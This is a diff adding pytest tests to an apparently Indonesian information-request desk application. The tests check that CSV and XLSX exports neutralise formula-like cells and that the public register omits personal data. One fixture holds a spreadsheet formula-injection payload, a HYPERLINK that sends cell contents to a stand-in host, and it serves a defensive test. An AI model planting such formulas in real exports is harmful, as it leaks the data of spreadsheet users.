@@ -160,3 +160,65 @@ def test_overdue_flag_is_exported(
     out = out_dir / "r.json"
     exporter.export(admin, out=out)
     assert {r["overdue"] for r in json.loads(out.read_text("utf-8"))["rows"]} == {"Ya"}
+
+
+# --- formula injection and the public register -----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
+
+
+@pytest.fixture
+def formula_request(desk: DeskServices, admin: Actor, walk_in: Callable[..., dict[str, Any]]) -> str:
+    return desk.register.receive(
+        admin,
+        walk_in(information=FORMULA, purpose="+62 tugas kuliah", requester={"occupation": "@pengusaha"}),
+    ).number
+
+
+def test_csv_and_xlsx_neutralise_cells_a_spreadsheet_would_run_as_formulas(
+    exporter: ExportService, supervisor: Actor, formula_request: str, out_dir: Path
+) -> None:
+    exporter.export(supervisor, out=out_dir / "r.csv")
+    with open(out_dir / "r.csv", encoding="utf-8-sig", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["Informasi yang Diminta"] == "'" + FORMULA
+    assert row["Tujuan Penggunaan Informasi"] == "'+62 tugas kuliah"
+    assert row["Pekerjaan"] == "'@pengusaha"
+    exporter.export(supervisor, out=out_dir / "r.xlsx")
+    sheet = load_workbook(out_dir / "r.xlsx").active
+    assert sheet is not None
+    headers = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=headers.index("Informasi yang Diminta") + 1)
+    assert cell.data_type == "s" and cell.value == "'" + FORMULA
+
+
+def test_public_register_leaves_out_every_personal_field(
+    desk: DeskServices, exporter: ExportService, supervisor: Actor, formula_request: str, out_dir: Path
+) -> None:
+    for fmt in ("csv", "xlsx"):
+        out = out_dir / f"publik.{fmt}"
+        result = exporter.export(supervisor, out=out, public=True)
+        assert result.rows == 1
+        if fmt == "csv":
+            raw = out.read_text(encoding="utf-8-sig")
+            with open(out, encoding="utf-8-sig", newline="") as handle:
+                (row,) = list(csv.DictReader(handle))
+        else:
+            sheet = load_workbook(out).active
+            assert sheet is not None
+            values = list(sheet.iter_rows(values_only=True))
+            row = dict(zip(values[0], values[1], strict=True))
+            raw = " ".join(str(v) for line in values for v in line)
+        for secret in ("Siti Aminah", "3673", "0812", "3456", "siti.aminah", "Bhayangkara"):
+            assert secret not in raw
+        assert not {"Nama", "Alamat", "Nomor Kontak", "NIK (disamarkan)"} & set(row)
+        assert row["No. Registrasi"] == formula_request
+        assert row["Informasi yang Diminta"] == "'" + FORMULA
+        assert row["Jenis Pemohon"] == "perorangan"
+    with pytest.raises(ValidationError, match="CSV atau XLSX"):
+        exporter.export(supervisor, out=out_dir / "publik.json", public=True)
+    with desk.ctx.db.reader() as session:
+        actions = [
+            a.action for a in session.scalars(select(AuditEntry).where(AuditEntry.entity == "register"))
+        ]
+    assert actions.count("export_public") == 2
